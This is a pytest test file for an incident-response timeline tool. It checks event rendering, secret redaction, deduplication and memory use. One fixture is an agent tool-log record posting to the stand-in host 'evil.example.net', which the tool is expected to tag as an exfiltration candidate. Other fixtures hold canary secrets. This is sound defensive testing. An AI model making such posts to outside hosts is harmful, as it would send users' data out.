"""Lines rendered where events are parsed are what the timeline always wrote: tags put into an
unchanged line, events the parent changes rendered again, secrets masked either way."""

from __future__ import annotations

import io
import json
import random
from pathlib import Path

import pytest

from ir.core import redaction
from ir.core.redaction import could_hold_secret, might_hold_secret
from ir.timeline.export import FORMATS, write
from ir.timeline.pipeline import build
from tests.unit.test_timeline_incident import AGENT, incident  # noqa: F401 (the fixture)

SECRET_NAMES = ("password", "api_key", "apiKey", "X-Api-Key", "session_key", "client_secret", "db_password")
SECRET_NAMES += ("api__key", "apis_key", "session2-key", "private . key")  # joined as no single hint is


def _both(paths: list[Path], fmt: str, workers: int, agent: object = None) -> tuple[str, str, int, int]:
    """The output written line by line by the workers, and every event read as a dict and written."""
    lines, events = io.StringIO(), io.StringIO()
    written = build(paths, agent=agent, fmt=fmt, workers=workers).write(lines, fmt)  # type: ignore[arg-type]
    read = write(build(paths, agent=agent, workers=workers).events(), events, fmt)  # type: ignore[arg-type]
    return lines.getvalue(), events.getvalue(), written, read


@pytest.mark.parametrize("workers", [1, 2], ids=["in-process", "pool"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_the_incident_written_from_lines_is_the_incident_written_from_events(
    incident: Path,  # noqa: F811
    fmt: str,
    workers: int,
) -> None:
    """Clock offset applied, a tool call folded across sources, a cloud call caused by a tool call,
    every tag: the events the parent changes come out as the slow path writes them."""
    first = build([incident], agent=AGENT, fmt=fmt, workers=workers)
    fast = io.StringIO()
    assert first.write(fast, fmt) == 7
    second = build([incident], agent=AGENT, workers=workers)
    slow = io.StringIO()
    write(second.events(), slow, fmt)
    assert fast.getvalue() == slow.getvalue()
    assert json.dumps(first.summary(), sort_keys=True) == json.dumps(second.summary(), sort_keys=True)


def test_an_event_holding_the_keys_around_tags_of_its_own_is_tagged_right(tmp_path: Path) -> None:
    """Arguments with their own `tags` and `raw_ref`: the line cannot be told where the event's tags
    go by those keys, so the tagged event is rendered again instead."""
    log = tmp_path / "tools.jsonl"
    records = [
        {"ts": "2026-11-20T03:00:00Z", "tool": "fs.read", "call_id": "a", "arguments": {"path": "/srv/x"}},
        {
            "ts": "2026-11-20T03:00:05Z",
            "tool": "http.post",
            "call_id": "b",
            "arguments": {"url": "https://evil.example.net/u", "tags": [], "raw_ref": "x"},
        },
    ]
    log.write_text("".join(json.dumps(r, separators=(",", ":")) + "\n" for r in records))
    for fmt in ("jsonl", "timesketch"):
        fast, slow, written, read = _both([log], fmt, 1)
        assert fast == slow and written == read == 2
    posted = json.loads(_both([log], "jsonl", 1)[0].splitlines()[1])
    assert [t["tag"] for t in posted["tags"]] == ["exfiltration_candidate"]
    assert posted["tool"]["arguments"]["tags"] == []


def test_secrets_in_tool_arguments_never_reach_a_line(tmp_path: Path) -> None:
    log = tmp_path / "tools.jsonl"
    rows = [
        {"ts": f"2026-11-20T03:12:{i:02d}Z", "tool": "t", "call_id": f"c{i}", "arguments": {name: f"canary-{i}-value"}}
        for i, name in enumerate(SECRET_NAMES)
    ]
    rows.append({"ts": "2026-11-20T03:13:00Z", "tool": "t", "arguments": "token=canary-in-text-77"})
    log.write_text("".join(json.dumps(r) + "\n" for r in rows))
    for fmt in FORMATS:
        fast, slow, _, _ = _both([log], fmt, 1)
        assert "canary" not in fast and fast == slow


@pytest.mark.parametrize("values", [["s3cr3t-VALUE-0001"], ["s3cr3t-VALUE-0001", "with space in it"]])
def test_could_hold_secret_says_yes_whenever_a_text_made_of_the_pieces_might(
    monkeypatch: pytest.MonkeyPatch, values: list[str]
) -> None:
    """The tool-log shortcut skips the redaction pre-check when its pieces hold no hint's stem and no
    registered value; every text put together from them (spaces, quotes, JSON) must then hold none."""
    rng = random.Random(11)
    monkeypatch.setattr(redaction, "_known", set())
    monkeypatch.setattr(redaction, "_known_re", None)
    monkeypatch.setattr(redaction, "_known_plain", True)
    redaction.register(values)
    words = ["fs.read", "/data/1.txt", "https://a.example/t", "API", "Key", "apikey", "sk-", "abc", "ghp_", "x" * 30]
    words += ["Bearer", "pass", "word", "s3cr3t-VALUE-0001", "with space", "in it", "PRIVATE", "key", "c1", "null"]
    said_no = 0
    for _ in range(3000):
        pieces = [" ".join(rng.sample(words, rng.randrange(1, 4))) for _ in range(rng.randrange(1, 5))]
        glue = rng.choice([" ", '":"', '","', "\0", '{"', "-> "])
        text = pieces[0] + " " + json.dumps({"k": glue.join(pieces[1:]) or pieces[0]})
        if not could_hold_secret("\0".join(pieces)):
            said_no += 1
            assert not might_hold_secret(text), (pieces, text)
    if len(values) == 1:
        assert said_no > 100  # (the shortcut is taken: the test is not empty)
    else:  # a registered value with a space could span pieces: the shortcut is never taken
        assert said_no == 0


def test_a_read_with_null_arguments_reads_nothing_named(tmp_path: Path) -> None:
    """`"arguments": null` is no text to the detectors (as before the workers wrote the arguments
    once for them): the read is recorded with an empty what, in the tool log and in OTel spans."""
    log = tmp_path / "tools.jsonl"
    log.write_text(json.dumps({"ts": "2026-11-20T03:00:00Z", "tool": "fs.read", "call_id": "a", "arguments": None}))
    spans = tmp_path / "spans.jsonl"
    span = {
        "name": "execute_tool crm.export",
        "context": {"trace_id": 1, "span_id": 2},
        "start_time": 1795662000000000000,
        "attributes": {"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "crm.export"},
    }
    spans.write_text(json.dumps(span) + "\n" + json.dumps({**span, "start_time": 1795662001000000000}) + "\n")
    for path in (log, spans):
        timeline = build([path], fmt="jsonl")
        timeline.write(io.StringIO(), "jsonl")
        assert [read["what"] for read in timeline.summary()["read"]] == [""] * (1 if path is log else 2)


def test_the_dedup_window_is_kept_only_when_a_call_id_is_in_two_sources(
    tmp_path: Path,
    incident: Path,  # noqa: F811
) -> None:
    from tests.unit.timeline_golden import make

    def dedup(path: Path, workers: int) -> bool:
        timeline = build([path], workers=workers)
        kept = timeline.dedup
        assert sum(1 for _ in timeline.events())  # (read: its runs closed)
        return kept

    assert dedup(incident, 1) and dedup(incident, 2)  # the container log and the spans share calls
    folder, _agent = make(tmp_path / "logs", 3000, False)  # call ids c… in the tool log, o… in the spans
    assert not dedup(folder, 1) and not dedup(folder, 2)


@pytest.mark.parametrize("fmt", [None, "jsonl", "timesketch"])
def test_a_sorted_run_holds_its_lines_at_their_size(tmp_path: Path, fmt: str | None) -> None:
    """What an encoder returns can keep its whole working buffer (orjson: 4 KiB or more for a line
    of 300 bytes); a run holds 50,000 records until it is written, so a worker that kept encoder
    output as it came grew to 460 MB on a 120,000-line tool log instead of under 100 MB."""
    import gc
    import tracemalloc

    from ir.timeline.merge import Everything
    from ir.timeline.runs import sort_source
    from ir.timeline.sources import PARSERS
    from ir.timeline.sources.base import SourceStats
    from ir.timeline.untimed import Untimed

    log = tmp_path / "tools.jsonl"
    with log.open("w") as fh:
        for i in range(2000):
            args = {"path": f"/data/{i}.txt", "api_key": "sk-abcdefghijklmnopqrstuvwxyz" if i % 2 else None}
            record = {"ts": f"2026-11-20T03:{i // 60 % 60:02d}:{i % 60:02d}Z", "tool": "fs.read", "call_id": f"c{i}"}
            fh.write(json.dumps({**record, "arguments": args}) + "\n")
    stats = SourceStats(str(log), "jsonl")
    gc.collect()
    tracemalloc.start()
    try:
        runs, _anchors = sort_source(
            PARSERS["jsonl"](log, stats),
            rank=0,
            sidx=0,
            fmt=fmt,
            cloud_wanted=Everything(),
            stats=stats,
            held=Untimed(),
            path=log,
        )
        held = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
    (run,) = runs
    assert isinstance(run, list) and len(run) == 2000
    text = sum(len(b) for r in run for b in r[5:8] if b is not None)  # the line, the event's JSON, before redaction
    beyond = (held - text) / len(run)
    assert beyond < 1500, f"{beyond:.0f} bytes held per record beyond its own lines"
